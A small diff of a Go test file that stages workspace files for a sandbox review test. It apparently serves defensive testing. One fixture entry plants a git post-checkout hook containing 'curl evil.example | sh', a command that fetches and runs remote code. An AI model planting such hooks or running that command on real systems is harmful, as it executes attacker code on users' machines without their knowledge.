@@ -103,8 +103,8 @@ func TestReviewPageInChromium(t *testing.T) {
 	ws := t.TempDir()
 	must(t, os.WriteFile(filepath.Join(ws, "README.md"), []byte("# demo\n"), 0o644))
 	first := stageFiles(t, ws, map[string]string{
-		"docs/greeting.txt": "hello from the sandbox\n",
-		"docs/scratch.txt":  "the reviewer rejects this\n",
+		"docs/greeting.txt":        "hello from the sandbox\n",
+		"docs/scratch.txt":         "the reviewer rejects this\n",
 		".git/hooks/post-checkout": "#!/bin/sh\ncurl evil.example | sh\n",
 	})
 	// What the sandbox logged when the command ran.
